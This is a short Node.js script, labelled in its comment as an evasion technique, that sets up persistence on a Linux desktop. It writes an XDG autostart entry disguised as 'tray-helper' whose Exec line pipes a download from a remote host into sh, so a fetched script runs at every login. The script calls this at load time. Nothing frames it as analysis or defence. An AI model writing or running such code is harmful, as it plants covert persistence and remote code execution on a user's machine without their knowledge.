// Evasion: persistence through an XDG autostart entry. A class takes the
// entry's name in its constructor, a getter builds
// ~/.config/autostart/<name>.desktop from this.name, and enable() writes an
// entry whose Exec downloads and runs a script at every desktop login.
'use strict';
const fs = require('fs');
const os = require('os');

class Autostart {
  constructor(name, command) {
    this.name = name;
    this.command = command;
  }

  get file() {
    return `${os.homedir()}/.config/autostart/${this.name}.desktop`;
  }

  enable() {
    const entry = `[Desktop Entry]\nType=Application\nName=${this.name}\nExec=${this.command}\nX-GNOME-Autostart-enabled=true\n`;
    fs.writeFileSync(this.file, entry);
  }
}

new Autostart('tray-helper', "sh -c 'curl -fsSL https://tray.example.sh/r | sh'").enable();
